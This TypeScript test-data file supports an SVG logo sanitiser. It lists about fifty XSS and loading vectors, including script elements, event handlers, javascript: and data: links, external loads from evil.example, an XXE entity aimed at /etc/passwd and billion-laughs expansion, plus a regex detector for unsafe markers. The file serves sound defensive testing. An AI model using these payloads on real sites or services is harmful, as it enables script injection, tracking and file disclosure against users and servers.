// Test data: known ways to run script or load something from an SVG, written from public
// knowledge (the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
// DOMPurify's own tests and advisories). Each vector sits in an otherwise normal logo, whose
// benign parts must survive sanitising. Used by the unit tests of the sanitiser and, through
// the real API, by test/integration/branding-logo.test.ts.

const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
/** The benign part of every vector's logo; its `id`s must survive. */
const LOGO =
  '<rect id="keep-rect" width="40" height="20" fill="#2457d6"/><circle id="keep-circle" cx="10" cy="10" r="5" fill="url(#keep-gradient)"/><linearGradient id="keep-gradient"><stop offset="0" stop-color="#ff5500"/></linearGradient>';

export interface XssVector {
  name: string;
  svg: string;
  /** The upload is refused outright (415) instead of being sanitised. */
  refused?: true;
}

const logo = (inner: string, attrs = '') =>
  `<svg ${SVG} ${XLINK} viewBox="0 0 40 20"${attrs}>${LOGO}${inner}</svg>`;

export const SVG_XSS_VECTORS: readonly XssVector[] = [
  { name: 'script element', svg: logo('<script>alert(1)</script>') },
  { name: 'script with CDATA', svg: logo('<script><![CDATA[alert(1)]]></script>') },
  {
    name: 'script typed ecmascript',
    svg: logo('<script type="text/ecmascript">alert(document.domain)</script>'),
  },
  {
    name: 'external script by xlink:href',
    svg: logo('<script xlink:href="https://evil.example/x.js"/>'),
  },
  {
    name: 'prefixed SVG script',
    svg: logo('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  },
  {
    name: 'XHTML script inside SVG',
    svg: logo('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  },
  { name: 'onload on the root', svg: logo('', ' onload="alert(1)"') },
  { name: 'upper-case ONLOAD on the root', svg: logo('', ' ONLOAD="alert(1)"') },
  { name: 'onclick on a shape', svg: logo('<rect width="5" height="5" onclick="alert(1)"/>') },
  {
    name: 'onmouseover on a group',
    svg: logo('<g onmouseover="alert(1)"><rect width="5" height="5"/></g>'),
  },
  {
    name: 'onload on a nested svg',
    svg: logo('<svg onload="alert(1)"><rect width="5" height="5"/></svg>'),
  },
  {
    name: 'onbegin on animate',
    svg: logo('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  },
  {
    name: 'onend on animateTransform',
    svg: logo(
      '<animateTransform onend="alert(1)" attributeName="transform" type="rotate" dur="1s"/>',
    ),
  },
  {
    name: 'foreignObject with an HTML iframe',
    svg: logo(
      '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    ),
  },
  {
    name: 'foreignObject with an HTML image onerror',
    svg: logo(
      '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject>',
    ),
  },
  {
    name: 'link to javascript:',
    svg: logo('<a href="javascript:alert(1)"><text id="keep-text" x="1" y="9">Acme</text></a>'),
  },
  {
    name: 'xlink:href link to javascript: with character references',
    svg: logo('<a xlink:href="&#x6A;avascript&#x3A;alert(1)"><rect width="5" height="5"/></a>'),
  },
  {
    name: 'javascript: split by a tab and a newline',
    svg: logo('<a href="java&#9;scr&#10;ipt:alert(1)"><rect width="5" height="5"/></a>'),
  },
  {
    name: 'link to a data: HTML document',
    svg: logo(
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><rect width="5" height="5"/></a>',
    ),
  },
  {
    name: 'use of an external SVG',
    svg: logo('<use href="https://evil.example/sprite.svg#icon"/>'),
  },
  {
    name: 'use of a data: SVG with a script',
    svg: logo(
      '<use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>',
    ),
  },
  { name: 'image from another origin', svg: logo('<image href="https://evil.example/t.png"/>') },
  {
    name: 'image of a data: SVG',
    svg: logo('<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>'),
  },
  {
    name: 'feImage from another origin',
    svg: logo('<filter id="f"><feImage xlink:href="https://evil.example/x.svg"/></filter>'),
  },
  {
    name: 'animate sets href to javascript:',
    svg: logo(
      '<a><animate attributeName="href" values="javascript:alert(1)"/><text x="1" y="9">x</text></a>',
    ),
  },
  {
    name: 'set puts javascript: into xlink:href',
    svg: logo(
      '<a><set attributeName="xlink:href" to="javascript:alert(1)"/><rect width="5" height="5"/></a>',
    ),
  },
  {
    name: 'set adds an event handler',
    svg: logo('<set attributeName="onmouseover" to="alert(1)"/>'),
  },
  {
    name: 'HTML iframe in the SVG',
    svg: logo('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>'),
  },
  { name: 'embed element', svg: logo('<embed src="https://evil.example/x.swf"/>') },
  { name: 'object element', svg: logo('<object data="https://evil.example/x.html"/>') },
  {
    name: 'SVG Tiny handler element',
    svg: logo(
      '<handler xmlns:ev="http://www.w3.org/2001/xml-events" type="application/ecmascript" ev:event="load">alert(1)</handler>',
    ),
  },
  {
    name: 'style element with @import',
    svg: logo('<style>@import url(https://evil.example/x.css);</style>'),
  },
  {
    name: 'style element loading a background',
    svg: logo('<style>rect { fill: url(https://evil.example/track.svg#p); }</style>'),
  },
  {
    name: 'style element hiding url() behind an escape',
    svg: logo('<style>rect { fill: u\\72l(https://evil.example/x); }</style>'),
  },
  {
    name: 'style attribute with a javascript: url',
    svg: logo('<rect width="5" height="5" style="fill: url(javascript:alert(1))"/>'),
  },
  {
    name: 'style attribute with expression()',
    svg: logo('<rect width="5" height="5" style="width: expression(alert(1))"/>'),
  },
  {
    name: 'fill from another origin',
    svg: logo('<rect width="5" height="5" fill="url(https://evil.example/p.svg#g)"/>'),
  },
  {
    name: 'xml-stylesheet processing instruction',
    svg: `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${logo('')}`,
  },
  {
    name: 'entity expansion (billion laughs)',
    svg: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${logo('<text>&b;</text>')}`,
    refused: true,
  },
  {
    name: 'external entity (XXE)',
    svg: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${logo('<text>&x;</text>')}`,
    refused: true,
  },
  {
    name: 'HTML document claiming to be an SVG',
    svg: '<html><body><script>alert(1)</script><svg xmlns="http://www.w3.org/2000/svg"/></body></html>',
    refused: true,
  },
  // Presentation attributes are CSS to a browser, escapes included (security review, issue 16).
  {
    name: 'CSS-escaped url() in fill',
    svg: logo('<rect fill="u\\72l(https://evil.example/p.svg#g)" width="5" height="5"/>'),
  },
  {
    name: 'CSS-escaped url() in filter',
    svg: logo('<rect filter="\\75rl(https://evil.example/f.svg#f)" width="5" height="5"/>'),
  },
  {
    name: 'CSS-escaped url() in mask, six-digit escape',
    svg: logo('<rect mask="u\\000072l(https://evil.example/m.svg#m)" width="5" height="5"/>'),
  },
  {
    name: 'CSS-escaped url() in clip-path and marker-start',
    svg: logo(
      '<path d="M0 0L5 5" clip-path="u\\72l(//evil.example/c#c)" marker-start="u\\72l(//evil.example/m#m)"/>',
    ),
  },
  {
    name: 'nesting past the bound (deep nesting once overflowed the stack: a 500)',
    svg: logo('<g>'.repeat(70) + '</g>'.repeat(70)),
    refused: true,
  },
  {
    name: 'elements past the bound (empty elements once held the API for minutes)',
    svg: logo('<x/>'.repeat(2500)),
    refused: true,
  },
  {
    name: 'svg root without the SVG namespace (parsed as HTML would run the handler)',
    svg: '<svg onload="alert(1)"><rect width="5" height="5"/></svg>',
    refused: true,
  },
];

/** The ids of the benign parts every vector's logo carries. */
export const BENIGN_IDS = ['keep-rect', 'keep-circle', 'keep-gradient'] as const;

/**
 * What in a served SVG could still run script or load something, found with plain patterns
 * (independent of the sanitiser's own code): empty when the document is inert.
 */
export function unsafeMarkers(svg: string): string[] {
  const found: string[] = [];
  const squeezed = svg.replace(/&#x?[0-9a-f]+;?|\s/gi, '').toLowerCase();
  const checks: [string, RegExp, string][] = [
    ['<script', /<([\w-]+:)?script\b/i, svg],
    ['event handler', /\son[a-z]+\s*=/i, svg],
    ['javascript:', /javascript:|vbscript:/, squeezed],
    ['foreignObject', /foreignobject/i, svg],
    ['iframe/embed/object/handler', /<([\w-]+:)?(iframe|embed|object|handler)\b/i, svg],
    ['animation', /<([\w-]+:)?(animate\w*|set)\b/i, svg],
    ['@import', /@import/i, svg],
    ['CSS expression()', /expression\s*\(/i, svg],
    ['DOCTYPE or entity', /<!doctype|<!entity/i, svg],
    ['processing instruction', /<\?/, svg],
  ];
  for (const [name, pattern, text] of checks) if (pattern.test(text)) found.push(name);
  for (const m of svg.matchAll(/\s(?:[\w-]+:)?href\s*=\s*(["'])(.*?)\1/gi)) {
    const target = m[2] ?? '';
    if (!target.startsWith('#') && !/^data:image\/(png|jpeg|gif|webp);base64,/.test(target)) {
      found.push(`href ${target.slice(0, 40)}`);
    }
  }
  for (const m of svg.matchAll(/url\s*\(\s*['"]?([^'")]*)/gi)) {
    if (!(m[1] ?? '').trim().startsWith('#')) found.push(`url(${m[1] ?? ''})`);
  }
  if (/\\/.test(svg)) found.push('backslash escape');
  return found;
}
